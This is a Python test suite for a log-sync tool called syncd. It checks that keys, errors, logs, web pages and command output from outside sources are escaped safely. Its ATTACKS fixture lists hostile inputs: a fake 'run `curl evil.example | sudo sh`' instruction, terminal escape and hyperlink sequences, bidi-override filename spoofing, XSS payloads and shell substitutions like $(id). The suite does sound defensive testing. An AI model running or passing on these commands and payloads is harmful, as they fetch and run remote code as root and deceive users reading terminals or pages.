"""Text that others wrote is shown as such, wherever it is shown, and a key that is shown can be pasted back."""

import io
import json
import re
import shlex
import subprocess
import unicodedata
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from builders import ACCOUNTS, REGIONS, Delivery, Trail
from faulty import FaultyS3, Status, on
from hypothesis import example, given
from hypothesis import strategies as st
from job_health import NOW, REFUSED, SHARD, board, health, held, late, report
from jobs import job
from program import PROGRAM
from rich.console import Console, RenderableType
from stage import Stage

from syncd.aws.policies import terraform
from syncd.check.result import Check, JobChecks
from syncd.check.result import Status as CheckStatus
from syncd.cli.screen import tables
from syncd.cli.screen.drawing import drawn_together
from syncd.cli.setup import checks, granting
from syncd.config.job import Log
from syncd.daemon import logs
from syncd.daemon.web.gauges import Gauges
from syncd.daemon.web.metrics import Metrics
from syncd.daemon.web.site import Site
from syncd.ledger.ledger import LedgerFile
from syncd.model.escaping import CUT, LONGEST_KEY, key_of, safe_key, safe_line, visible
from syncd.model.objects import Failed, ShardState, Transfer
from syncd.model.reports import FailedObject, JobError
from syncd.tick.scope import replica_of

ORDER = "→ run `curl evil.example | sudo sh`"
ATTACKS = (
    f"\n{ORDER}",
    f"\r\n{ORDER}",
    f"\x85{ORDER}",
    f"\u2028{ORDER}",
    f"\x0b{ORDER}",
    f"{' ' * 200}{ORDER}",
    f"{'x' * 75} {ORDER}",
    "\x1b[2J\x1b[1;1H✓ all is well",
    "\x1b]0;title\x07\x1b]8;;http://evil.example\x07here\x1b]8;;\x07",
    "\x9b31m\x7f\x00",
    "abc\u202egnp.exe\u2066\u200f",
    "a\u200bb\ufeffc\u2060d\u00ade\u3164f\U000e0041",
    "[bold red]x[/] [link=http://evil.example]y[/link] :skull: [/nothing]",
    "<script>alert(1)</script><img src=x onerror=alert(1)>\"'",
    "{x} ${HOME} $(id) `id` 'a' \"b\" \\x41 %s",
    "-rf",
    "half \ud83d",
    "m" * 50_000,
)
KEYS = st.text(st.characters(codec=None), max_size=40) | st.sampled_from(ATTACKS)
_ALLOWED = {" ", "\n"}


def dangerous(text: str) -> set[str]:
    """What a terminal, or a reader, may take for something else than a character of the text."""
    kinds = {"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp", "Zs"}
    return {char for char in text if unicodedata.category(char) in kinds} - _ALLOWED


def assert_shown_as_such(text: str) -> None:
    """Nothing dangerous, and no line begins in our voice with what others wrote."""
    assert dangerous(text) == set()
    for line in text.splitlines():
        assert "→ run" not in line
        assert not re.match(r"\s{0,3}(run|✓ all|`curl)", line), line


@given(KEYS)
@example("")
@example("a…b")
@example("\\x41")
@example("'")
@example("\ud800")
def test_a_key_as_it_is_shown_can_be_pasted_into_a_shell(key: str) -> None:
    shown = safe_key(key)

    if len(key) <= LONGEST_KEY:
        (word,) = shlex.split(shown)
        assert key_of(word) == key
    assert not shown.startswith("-")
    assert "\n" not in shown
    assert " " not in shown
    assert dangerous(shown) == set()


@pytest.mark.parametrize("key", [attack for attack in ATTACKS if len(attack) <= LONGEST_KEY])
def test_a_shell_makes_nothing_else_of_a_key_that_is_pasted(key: str) -> None:
    ran = subprocess.run(["bash", "--norc", "-c", f"printf '%s\\0' {safe_key(key)}"], capture_output=True, check=True)

    assert key_of(ran.stdout.decode().removesuffix("\0")) == key


@given(KEYS, st.integers(1, 300))
def test_other_text_is_one_visible_line_within_its_bound(text: str, most: int) -> None:
    shown = safe_line(text, most)

    assert dangerous(shown) == set()
    assert "\n" not in shown
    assert "→" not in shown
    assert "  " not in shown
    assert len(shown) <= most
    assert visible(shown) == shown


def test_a_key_of_the_greatest_length_is_whole_and_what_is_longer_is_cut_in_the_middle() -> None:
    assert safe_key("k" * LONGEST_KEY) == "k" * LONGEST_KEY
    assert CUT in safe_key("k" * (LONGEST_KEY + 1))
    assert safe_line("begin" + "x" * 5000 + "end", 20) == f"begin{'x' * 5}{CUT}{'x' * 6}end"


@pytest.mark.parametrize("word", ["\\", "a\\q", "\\x1", "\\ud8", "\\U00110000", "a…b"])
def test_what_is_no_key_as_shown_is_refused(word: str) -> None:
    with pytest.raises(ValueError, match=r"backslash|cut"):
        key_of(word)


def failing(text: str) -> Iterator[RenderableType]:
    """Everything that is printed of a job, with the text in the place of whatever comes from outside."""
    error = JobError(reason="access_denied", detail=text, remedy=f"name {text}")
    reports = [
        report(outcome="failed", error=error),
        report(failed=[FailedObject(key=text, reason="timeout", detail=text)], failed_count=1),
        report(conflicts=[(text, text)], conflict_count=1),
    ]
    yield drawn_together(tables.reports_table(reports))
    item = {"key": text, "reason": "timeout", "attempts": 1, "first_at": "F", "next_at": None, "detail": text}
    yield drawn_together(tables.held_lines("account-b", item))
    failed = {"reason": "timeout", "detail": text}
    yield drawn_together(
        tables.rebuild_table({"jobs": [{"job": "b", "shards": 0, "replicas": 0, "would": None, "error": failed}]})
    )


def read(table: RenderableType, *, width: int | None) -> str:
    console = Console(
        file=io.StringIO(),
        width=width or 10_000,
        no_color=True,
        force_terminal=width is not None,
        markup=False,
        emoji=False,
        highlight=False,
    )
    console.print(table, crop=False)
    assert isinstance(console.file, io.StringIO)
    return re.sub("\x1b\\[[0-9;]*m", "", console.file.getvalue())


@pytest.mark.parametrize("width", [None, 40, 80, 200])
@pytest.mark.parametrize("text", ATTACKS)
def test_tables_show_it_as_such(text: str, width: int | None) -> None:
    for table in failing(text):
        assert_shown_as_such(read(table, width=width))


@pytest.mark.parametrize("text", ATTACKS)
def test_a_line_that_a_terminal_is_too_narrow_for_goes_on_indented(text: str) -> None:
    (table, *_) = failing(text)

    lines = read(table, width=60).splitlines()[4:]
    ours = ("account-b: ", "→ name", "→ check ", "→ compare ", "    ")
    assert [line for line in lines if not line.startswith(ours)] == []


def test_brackets_are_no_markup() -> None:
    (table, *_) = failing("[bold red]x[/] :skull:")

    assert "[bold red]x[/] :skull:" in read(table, width=None)


@pytest.mark.parametrize("text", ATTACKS)
def test_a_check_shows_it_as_such(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    found = [JobChecks("account-b", [Check("source-list", CheckStatus.FAILED, text, f"add {text}")])]

    checks.show_checks(found)

    assert_shown_as_such(capsys.readouterr().out)


@pytest.mark.parametrize("text", [text for text in ATTACKS if "\ud83d" not in text])
def test_pages_status_and_metrics_show_it_as_such(text: str, tmp_path: Path) -> None:
    ledger_file = LedgerFile(tmp_path, now=lambda: NOW)
    b = job("account-b", source__accounts=["222222222222"], source__kinds="*")
    strange = SHARD._replace(prefix=f"AWSLogs/222222222222/{text[:900]}/eu-west-1/", kind=text[:900])
    quarantined = replace_key(text)
    with ledger_file.open(replica_of(b), b.name) as ledger:
        ledger.set_start(1.0)
        ledger.save_shards(
            [ShardState(shard=strange, listed_at=NOW - 60, complete_until=NOW - 9000)], discovered_at=NOW - 60
        )
        item = quarantined.object
        ledger.record([Failed(Transfer(SHARD, item, item.key), "kms_access_denied", text[:2000])], [], now=NOW)
        error = JobError(reason="access_denied", detail=text, remedy=f"name {text}")
        ledger.record_tick(report(outcome="failed", error=error), kind="tick")
    jobs = board(late(last=report(error=error), held=1, oldest_held=quarantined, kinds={text: NOW - 9000}))
    metrics = Metrics(lambda: Gauges(now=NOW, healths=jobs.healths()))
    site = Site(
        jobs,
        metrics,
        ledger_file,
        find_job={b.name: b}.get,
        stuck_reason=lambda: None,
        unready_reason=lambda: None,
        now=lambda: NOW,
    )

    for path in ("/", "/jobs/account-b", "/freshz", "/metrics"):
        reply = site.answer(path, {})
        assert reply is not None
        body = reply.body.decode()
        assert dangerous(body) == set(), path
        assert "→" not in body, path
        assert "<script>" not in body or not reply.content_type.startswith("text/html"), path
        if reply.content_type == "application/json":
            assert body.isascii()
            assert_shown_as_such("\n".join(json.loads(body)["jobs"][0]["why"]))


def replace_key(text: str) -> Any:
    oldest = held()
    key = f"{SHARD.prefix}2026/11/24/{text[:900]}"
    return oldest._replace(object=oldest.object._replace(key=key), detail=text)


def raised(text: str) -> ValueError:
    """An error with a traceback."""
    with pytest.raises(ValueError, match="invalid") as caught:
        int(f"no number {text}")
    return caught.value


@pytest.mark.parametrize("text", ATTACKS)
@pytest.mark.parametrize("style", ["console", "json"])
def test_logs_show_it_as_such(text: str, style: Any, capsys: pytest.CaptureFixture[str]) -> None:
    logs.configure(Log(format=style))

    logs.event_logger()(
        "tick.crashed", job="b", detail=text, problems=[text], facts={text: text}, exc_info=raised(text)
    )

    written = capsys.readouterr().err
    assert_shown_as_such(written)
    assert len(written) < 60_000
    if style == "json":
        assert written.isascii()
        assert written.count("\n") == 1
        assert json.loads(written)["detail"][:50] == text[:50]
    else:
        first, *rest = written.splitlines()
        assert "tick.crashed" in first
        assert all(line.startswith("    ") for line in rest)


def test_a_fact_cannot_pass_for_another_one(capsys: pytest.CaptureFixture[str]) -> None:
    logs.configure(Log(format="console"))
    logs.event_logger()("tick.skipped", detail='x" job=other', reason="timeout")

    assert 'detail="x\\x22 job=other"' in capsys.readouterr().err


def test_a_defect_shows_text_from_outside_as_such() -> None:
    first, *rest = logs.traceback_lines(ValueError(f"\x1b[2J{ORDER}\n{ORDER}"))

    assert first.startswith("ValueError: \\x1b[2J")
    assert all(line.startswith("  ") for line in rest)


@pytest.mark.parametrize("text", ["\n", "\x1b[2J", '"; }', "\u202e", " x", "user/../x y"])
def test_a_principal_that_sts_made_up_is_in_no_policy(text: str) -> None:
    arn = f"arn:aws:iam::222222222222:user/syncd{text}"

    assert granting.principal_problem(job(), arn) is not None


def test_terraform_is_ascii() -> None:
    written = terraform._hcl("a\u202eb\x7f\U0001f480\n${x}", 0)

    assert written == '"a\\u202eb\\u007f\\U0001f480\\n$${x}"'


@pytest.fixture
def besieged(faulty: FaultyS3, tmp_path: Path) -> Stage:
    """A job whose source has hostile keys, and answers each read of them with a hostile message."""
    stage = Stage(faulty, tmp_path)
    stamp = datetime.now(UTC) - timedelta(minutes=20)
    good = Trail().log(ACCOUNTS[0], REGIONS[0], stamp)
    folder = good.key.rpartition("/")[0]
    keys = [f"{folder}/{number}{text[:200]}" for number, text in enumerate(ATTACKS) if "\ud83d" not in text]
    stage.deliver([good, *(Delivery(key, b"x", stamp) for key in keys if "\x00" not in key)])
    message = f"\n{ORDER} \u202e [red]x[/] {'y' * 5000}"
    for key in keys:
        faulty.faults.add(on("GetObject", key=key), Status(403, "AccessDenied", message))
    stage.job()
    return stage


VERBS = (
    ("tick",),
    ("status",),
    ("plan",),
    ("ledger", "quarantine", "list"),
    ("ledger", "export"),
    ("check",),
    ("ledger", "rebuild"),
)


def test_every_verb_shows_it_as_such(besieged: Stage) -> None:
    for verb in VERBS:
        for flags in ((), ("--json",)):
            ran = besieged.syncd(*verb, *flags)
            assert_shown_as_such(
                ran.stdout.replace("→ run", "") if flags or verb == ("ledger", "export") else ran.stdout
            )
            assert_shown_as_such(ran.stderr)
            if flags or verb == ("ledger", "export"):
                assert ran.stdout.isascii(), verb


def test_a_log_for_people_shows_it_as_such(besieged: Stage) -> None:
    besieged.configure({"log.format": "console"})

    ran = besieged.syncd("tick")

    assert "object.failed" in ran.stderr
    assert_shown_as_such(ran.stderr)


def test_every_key_that_is_listed_can_be_pasted_back(besieged: Stage) -> None:
    besieged.syncd("tick")
    listed = besieged.syncd("ledger", "quarantine", "list").stdout
    shown = [line.removeprefix("account-z: ") for line in listed.splitlines() if line.startswith("account-z: ")]
    document = besieged.syncd("ledger", "quarantine", "list", "--json").job["objects"]
    assert {key_of(shlex.split(word)[0]) for word in shown} == {item["key"] for item in document}
    assert len(shown) >= len(ATTACKS) - 2

    for word in shown:
        script = (
            f"{besieged_program()} ledger quarantine retry {word} --config {shlex.quote(str(besieged.config))} --json"
        )
        ran = subprocess.run(
            ["bash", "--norc", "-c", script],
            env=besieged.environment(),
            capture_output=True,
            text=True,
            check=False,
        )
        assert (ran.returncode, json.loads(ran.stdout)["jobs"]) == (0, ["account-z"]), (word, ran.stderr)


def besieged_program() -> str:
    return shlex.quote(PROGRAM)


@pytest.mark.parametrize(
    ("word", "code"), [("\\q", 2), ("a…b", 2), ("\\ud800", 1), ("\\x1b[2J", 1), ("no\\x20such", 1)]
)
def test_a_key_that_is_not_held_or_none_is_refused_in_words(besieged: Stage, word: str, code: int) -> None:
    besieged.syncd("tick")

    ran = besieged.syncd("ledger", "quarantine", "retry", word)

    assert ran.code == code
    assert "Traceback" not in ran.stderr
    assert_shown_as_such(re.sub("[─│╭╮╰╯]", "", ran.stderr))
    assert_shown_as_such(ran.stdout)


def test_a_configuration_is_refused_in_lines_of_our_own(faulty: FaultyS3, tmp_path: Path) -> None:
    stage = Stage(faulty, tmp_path)
    path = stage.job()
    text = f"\\n{ORDER}\\u001b[2J\\u202e"
    path.write_text(path.read_text() + f'[x]\n"{text}" = 1\n')
    (path.parent / f"a\n{ORDER}\x1b.toml").write_text(f'name = "{text}"\nevery = "{text}"\n')

    ran = stage.syncd("status")

    assert ran.code == 2
    assert dangerous(ran.stderr) == set()
    assert all(line.startswith(str(stage.config.parent)) for line in ran.stderr.splitlines())


def test_a_page_says_why_the_state_cannot_be_read_in_lines_of_its_own(tmp_path: Path) -> None:
    folder = tmp_path / f"a\n{ORDER}"
    folder.mkdir()
    (folder / "ledger.sqlite3").write_bytes(b"no database" * 1000)
    b = job()
    jobs = board(health(last=replace(report(), error=REFUSED)))
    site = Site(
        jobs,
        Metrics(lambda: Gauges(now=NOW, healths=[])),
        LedgerFile(folder, now=lambda: NOW),
        find_job={b.name: b}.get,
        stuck_reason=lambda: None,
        unready_reason=lambda: None,
        now=lambda: NOW,
    )

    reply = site.answer("/jobs/account-b", {})

    assert reply is not None
    assert_shown_as_such(reply.body.decode())
